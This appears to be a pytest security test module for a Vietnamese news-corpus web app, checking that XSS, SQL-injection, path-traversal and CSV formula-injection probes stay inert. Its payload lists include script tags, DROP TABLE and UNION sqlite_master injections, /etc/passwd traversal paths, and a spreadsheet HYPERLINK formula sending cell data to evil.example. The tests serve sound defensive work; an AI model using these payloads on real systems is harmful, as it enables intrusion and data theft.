"""Hostile content (issue 5, part 5): XSS, SQL-injection and path-traversal probes are inert.

Probes go in through article text, corpus fields (id, url, title), search queries and URL
paths; the served pages must show them as text, the database must be unchanged, no
file outside the app may be served, and no answer may be a 5xx. Plus schemathesis over
the JSON API: no generated request may make the server fail.
"""
from __future__ import annotations

import json
import sqlite3
from pathlib import Path
from urllib.parse import quote

import pytest

from reliability import figures
from reliability.articles import article
from reliability.cli import has, run

pytestmark = pytest.mark.skipif(not has("ingest"), reason="hoptac ingest is not in this build yet")

XSS = [
    "<script>alert('xss-1')</script>",
    '"><img src=x onerror=alert("xss-2")>',
    "<svg/onload=alert('xss-3')>",
    "javascript:alert('xss-4')",
    "</textarea></title><script>alert('xss-5')</script>",
    "{{7*7}}{% raw %}${7*7}",
    "<iframe src=\"https://evil.example/\"></iframe>",
]
SQLI = [
    "' OR '1'='1",
    "' OR 1=1 --",
    "\"; DROP TABLE documents; --",
    "1; DELETE FROM documents",
    "%' UNION SELECT name, sql, 1, 1 FROM sqlite_master --",
    "x') OR ('a'='a",
    "NEAR(a b) OR * AND NOT \"",
    "\\",
    "%_%",
    "\x00",
    "' || (SELECT load_extension('x')) || '",
]
TRAVERSAL = [
    "/static/../../../../etc/passwd",
    "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/static/....//....//etc/passwd",
    "/documents/../../../../etc/passwd",
    "/documents/..%2f..%2f..%2fetc%2fpasswd",
    "/documents/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/export/../../etc/passwd.csv",
    "/export/..%2f..%2fetc%2fpasswd.csv",
    "/people/..%2f..%2fetc%2fpasswd",
    "/organisations/%00",
    "/static/%00../../etc/passwd",
    "//etc/passwd",
    "/events/1%20OR%201=1",
    "/api/events/1;DROP%20TABLE%20documents",
    "/api/documents/..%2F..%2Fetc%2Fpasswd",
]
PASSWD_MARK = "root:x:0:0"
# A title that a spreadsheet would run as a formula when it opens the CSV export.
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào đây")'
FORMULA_STARTS = ("=", "+", "@", "\t", "\r")


def _hostile_articles() -> list[dict]:
    """Real-looking articles with the probes in their text, names, ids, URLs and titles."""
    rows = []
    for i, probe in enumerate(XSS + SQLI):
        _, body = article(80_000 + i)
        paras = body.split("\n\n")
        paras[0] = f"{paras[0]} {probe}"
        paras.insert(2, f"Đồng chí Nguyễn Văn {probe} phát biểu: “{probe}”.")
        rows.append({"id": f"hostile-{i}-{probe[:20]}", "text": "\n\n".join(paras), "url": f"https://example.vn/{quote(probe)}"})
    body = article(80_102)[1].split("\n\n")
    rows.append({"id": "formula", "text": "\n\n".join([FORMULA, *body[1:]]), "url": "https://example.vn/f"})
    rows.append({"id": "../../../../etc/passwd", "text": article(80_100)[1], "url": "javascript:alert('xss-url')"})
    rows.append({"id": "<script>alert('xss-id')</script>", "text": article(80_101)[1], "url": "https://example.vn/a"})
    return rows


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    corpus = root / "hostile.jsonl"
    corpus.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in _hostile_articles()) + "\n", encoding="utf-8")
    db = root / "hostile.db"
    proc = run("ingest", str(corpus), "--db", str(db))
    assert proc.returncode == 0 and "Traceback" not in proc.stdout + proc.stderr, proc.stdout + proc.stderr
    return db


@pytest.fixture(scope="module")
def client(hostile_db: Path):
    from fastapi.testclient import TestClient

    from hoptac.serve.app import create_app

    return TestClient(create_app(str(hostile_db)), raise_server_exceptions=False)


class Tally:
    requests = 0
    server_errors: list[str] = []


def _get(client, url: str, **kw):
    r = client.get(url, **kw)
    Tally.requests += 1
    if r.status_code >= 500:
        Tally.server_errors.append(f"{url} {kw}: {r.status_code}")
    return r


def _doc_count(db: Path) -> int:
    con = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    try:
        return con.execute("SELECT COUNT(*) FROM documents").fetchone()[0]
    finally:
        con.close()


RAW_MARKUP = ("<script>alert(", "<img src=x onerror", "<svg/onload", '<iframe src="https://evil', "</textarea></title><script>")


def _assert_inert_html(body: str) -> None:
    """The probes may appear only escaped (as text), never as live markup or script URLs."""
    for raw in RAW_MARKUP:
        assert raw not in body, raw
    low = body.lower()
    assert 'href="javascript:' not in low and 'src="javascript:' not in low


def test_hostile_articles_are_stored_as_text(hostile_db: Path) -> None:
    assert _doc_count(hostile_db) == len(_hostile_articles())


def test_document_pages_escape_article_text(client, hostile_db: Path) -> None:
    docs = _get(client, "/api/documents", params={"limit": 100}).json()["documents"]
    assert len(docs) == len(_hostile_articles())
    for d in docs:
        r = _get(client, "/documents/" + quote(d["doc_id"], safe=""))
        if any(ord(c) < 32 for c in d["doc_id"]):
            # An id with control characters (from a corpus field) cannot be asked for in a URL.
            assert r.status_code in (404, 422), (d["doc_id"], r.status_code)
            continue
        assert r.status_code == 200, (d["doc_id"], r.status_code)
        _assert_inert_html(r.text)
        assert "content-security-policy" in r.headers
        api = _get(client, "/api/documents/" + quote(d["doc_id"], safe=""))
        assert api.status_code == 200
        assert api.headers["content-type"].startswith("application/json")


@pytest.mark.parametrize("probe", XSS + SQLI, ids=range(len(XSS + SQLI)))
def test_search_probes_are_inert(client, hostile_db: Path, probe: str) -> None:
    before = _doc_count(hostile_db)
    for url in ("/api/search", "/search", "/api/people", "/api/events", "/api/organisations", "/api/agreements", "/api/documents"):
        r = _get(client, url, params={"q": probe})
        assert r.status_code < 500, (url, probe, r.status_code, r.text[:300])
        if r.status_code == 200 and "html" in r.headers.get("content-type", ""):
            _assert_inert_html(r.text)
    r = _get(client, "/api/search", params={"q": probe})
    if r.status_code == 200:
        hits = r.json()
        total = sum(len(v) for k, v in hits.items() if isinstance(v, list))
        # "' OR '1'='1" must not turn into "match everything".
        if probe.startswith("'") and "OR" in probe:
            assert total < _doc_count(hostile_db) + 5, hits
    assert _doc_count(hostile_db) == before, "a query changed the database"


def test_template_syntax_in_text_is_not_evaluated(client) -> None:
    r = _get(client, "/search", params={"q": "{{7*7}}"})
    assert r.status_code == 200
    assert "{{7*7}}" in r.text or "{{7*7}}".replace("{", "&#123;") in r.text


def test_sql_meta_is_not_leaked(client) -> None:
    r = _get(client, "/api/search", params={"q": "%' UNION SELECT name, sql, 1, 1 FROM sqlite_master --"})
    assert "CREATE TABLE" not in r.text


@pytest.mark.parametrize("path", TRAVERSAL)
def test_path_traversal_is_inert(client, path: str) -> None:
    r = _get(client, path)
    assert r.status_code < 500, (path, r.status_code, r.text[:300])
    assert PASSWD_MARK not in r.text, path
    assert "def create_app" not in r.text and "[build-system]" not in r.text


def test_hostile_doc_id_is_just_an_id(client) -> None:
    """A corpus id of '../../../../etc/passwd' names a document; it never opens a file."""
    r = _get(client, "/api/documents/" + quote("../../../../etc/passwd", safe=""))
    assert r.status_code in (200, 404)
    assert PASSWD_MARK not in r.text


def test_long_and_odd_queries(client) -> None:
    for q in ("a" * 10_000, "đ" * 600, "\ud800".encode("utf-8", "surrogatepass").decode("latin-1"), "%", "*" * 50, "(" * 300):
        for url in ("/api/search", "/search"):
            r = _get(client, url, params={"q": q})
            assert r.status_code < 500, (url, q[:20], r.status_code)


def _formula_cells(csv_text: str) -> list[str]:
    import csv
    import io

    return [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row if cell.startswith(FORMULA_STARTS)]


@pytest.mark.skipif(not has("export"), reason="hoptac export is not in this build yet")
def test_regression_csv_export_formula_injection(client, hostile_db: Path) -> None:
    """Bug: an article title starting with '=' went into the CSV export as is, so a spreadsheet
    opening the file runs it as a formula (OWASP "CSV injection"). Cells that start with
    = + @ TAB CR must be neutralised (e.g. a leading apostrophe)."""
    proc = run("export", "documents", "--format", "csv", "--db", str(hostile_db))
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr
    assert "HYPERLINK" in proc.stdout, "the probe article is in the export"
    assert not _formula_cells(proc.stdout), _formula_cells(proc.stdout)[:3]
    r = _get(client, "/export/documents.csv")
    assert r.status_code == 200
    assert not _formula_cells(r.text), _formula_cells(r.text)[:3]


@pytest.mark.slow
def test_schemathesis_api_never_fails(client, hostile_db: Path) -> None:
    """Every operation of the OpenAPI schema under generated requests: never a 5xx."""
    schemathesis = pytest.importorskip("schemathesis")
    from hypothesis import HealthCheck, given, settings

    schema = schemathesis.openapi.from_asgi("/openapi.json", client.app)
    failures: list[str] = []
    calls = 0
    for op in schema.get_all_operations():
        operation = op.ok()
        if operation.method.upper() != "GET":
            continue

        @settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck), database=None)
        @given(case=operation.as_strategy())
        def probe(case) -> None:
            nonlocal calls
            calls += 1
            response = case.call()
            if response.status_code >= 500:
                failures.append(f"{case.method} {case.formatted_path} {case.query}: {response.status_code}")

        probe()
    Tally.requests += calls
    Tally.server_errors += failures
    assert calls > 0
    assert not failures, failures[:10]


def test_zz_record_figures() -> None:
    """Runs last in this module: the request and 5xx tallies for docs/reliability.md."""
    figures.record("hostile_probes", inputs=len(XSS) + len(SQLI) + len(TRAVERSAL) + 2, http_requests=Tally.requests, http_5xx=len(Tally.server_errors))
    assert not Tally.server_errors, Tally.server_errors[:10]


def test_the_reliability_suite_sees_every_command() -> None:
    """These tests skip a command the build lacks; a --help they could not read would skip
    them all in silence."""
    from reliability.cli import commands

    assert {"extract", "ingest", "search", "stats", "serve", "export"} <= commands()
